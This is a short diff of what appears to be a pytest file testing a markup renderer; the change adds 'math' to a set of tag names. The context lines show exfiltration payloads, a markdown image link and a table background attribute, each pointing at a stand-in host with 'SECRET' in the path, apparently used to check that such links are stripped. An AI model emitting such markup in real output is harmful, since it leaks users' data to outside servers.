@@ -89,7 +89,7 @@ PAYLOADS = (
     "[![x](http://far.example/SECRET)](http://far.example)",
     "<table background=http://far.example/SECRET><tr><td>x</table>",
 )
-_LINK_FREE = {"p", "h", "code", "quote", "list", "table", "hr", "b", "i", "s", "br", "cite", "a", "img"}
+_LINK_FREE = {"p", "math", "h", "code", "quote", "list", "table", "hr", "b", "i", "s", "br", "cite", "a", "img"}
 
 
 @pytest.fixture(scope="module")
